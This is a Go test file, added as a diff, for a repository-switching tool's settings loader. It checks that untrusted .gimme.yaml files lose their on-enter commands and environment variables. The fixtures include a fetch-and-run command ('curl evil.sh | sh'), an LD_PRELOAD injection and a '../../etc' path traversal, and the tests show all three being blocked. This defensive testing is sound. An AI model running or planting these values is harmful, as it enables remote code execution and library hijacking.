@@ -0,0 +1,144 @@
+package search
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/kernelle-soft/gimme/internal/repo"
+	"github.com/kernelle-soft/gimme/internal/trust"
+	"github.com/spf13/viper"
+)
+
+func TestSettingsFor(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "gimme-settings-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+	defer viper.Reset()
+	t.Setenv("XDG_STATE_HOME", filepath.Join(tmpDir, "state"))
+
+	data := "protected: [develop]\nentry: services/api\ntags: [backend]\non-enter: nvm use\nenv:\n  GOFLAGS: -mod=mod\n"
+	if err := os.WriteFile(filepath.Join(tmpDir, ".gimme.yaml"), []byte(data), 0644); err != nil {
+		t.Fatal(err)
+	}
+	trustLocalConfig(t, tmpDir)
+
+	viper.Set("pins.branches.global", []string{"main"})
+	viper.Set("repositories", map[string]any{
+		"github.com/acme/api": map[string]any{
+			"tags":     []string{"work", "backend"},
+			"on-enter": "direnv allow",
+		},
+	})
+
+	s := SettingsFor("github.com/acme/api", tmpDir)
+	if expected := []string{"main", "develop"}; !reflect.DeepEqual(s.Protected, expected) {
+		t.Errorf("Protected = %v, want %v", s.Protected, expected)
+	}
+	if expected := []string{"work", "backend"}; !reflect.DeepEqual(s.Tags, expected) {
+		t.Errorf("Tags = %v, want %v", s.Tags, expected)
+	}
+	if s.Entry != "services/api" {
+		t.Errorf("Entry = %q, want the repository's %q", s.Entry, "services/api")
+	}
+	if s.OnEnter != "direnv allow" {
+		t.Errorf("OnEnter = %q, want the user's %q", s.OnEnter, "direnv allow")
+	}
+	if s.Env["GOFLAGS"] != "-mod=mod" {
+		t.Errorf("Env = %v, want GOFLAGS from .gimme.yaml", s.Env)
+	}
+	if s.Untrusted {
+		t.Error("Untrusted set for a trusted .gimme.yaml")
+	}
+}
+
+func TestSettingsForUntrusted(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "gimme-settings-*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpDir)
+	defer viper.Reset()
+	t.Setenv("XDG_STATE_HOME", filepath.Join(tmpDir, "state"))
+
+	write := func(root, data string) {
+		t.Helper()
+		if err := os.MkdirAll(root, 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(root, ".gimme.yaml"), []byte(data), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	t.Run("untrusted on-enter and env are skipped", func(t *testing.T) {
+		root := filepath.Join(tmpDir, "untrusted")
+		write(root, "on-enter: curl evil.sh | sh\nenv:\n  LD_PRELOAD: /tmp/x.so\ntasks:\n  test: go test ./...\n")
+
+		s := SettingsFor("github.com/acme/untrusted", root)
+		if s.OnEnter != "" || len(s.Env) > 0 {
+			t.Errorf("OnEnter = %q, Env = %v, want both skipped", s.OnEnter, s.Env)
+		}
+		if !s.Untrusted {
+			t.Error("Untrusted not set")
+		}
+		if s.Tasks["test"] != "go test ./..." {
+			t.Errorf("Tasks = %v, want them kept", s.Tasks)
+		}
+	})
+
+	t.Run("changing a trusted file takes trust back", func(t *testing.T) {
+		root := filepath.Join(tmpDir, "changed")
+		write(root, "on-enter: nvm use\n")
+		trustLocalConfig(t, root)
+		write(root, "on-enter: curl evil.sh | sh\n")
+		localConfigs.Delete(root)
+
+		s := SettingsFor("github.com/acme/changed", root)
+		if s.OnEnter != "" || !s.Untrusted {
+			t.Errorf("OnEnter = %q, Untrusted = %v, want the changed file untrusted", s.OnEnter, s.Untrusted)
+		}
+	})
+
+	t.Run("the user's on-enter needs no trust", func(t *testing.T) {
+		root := filepath.Join(tmpDir, "user")
+		write(root, "tags: [backend]\n")
+		viper.Set("repositories", map[string]any{
+			"github.com/acme/user": map[string]any{"on-enter": "nvm use"},
+		})
+
+		s := SettingsFor("github.com/acme/user", root)
+		if s.OnEnter != "nvm use" || s.Untrusted {
+			t.Errorf("OnEnter = %q, Untrusted = %v, want the user's command", s.OnEnter, s.Untrusted)
+		}
+	})
+
+	t.Run("entry outside the repository is dropped", func(t *testing.T) {
+		root := filepath.Join(tmpDir, "entry")
+		write(root, "entry: ../../etc\n")
+
+		if s := SettingsFor("github.com/acme/entry", root); s.Entry != "" {
+			t.Errorf("Entry = %q, want it dropped", s.Entry)
+		}
+	})
+}
+
+// trustLocalConfig trusts the .gimme.yaml in root as it is now.
+func trustLocalConfig(t *testing.T, root string) {
+	t.Helper()
+	local, err := repo.LoadLocalConfig(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	store, err := trust.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	store.Trust(filepath.Join(root, repo.LocalConfigFile), local.Hash)
+	if err := store.Save(); err != nil {
+		t.Fatal(err)
+	}
+}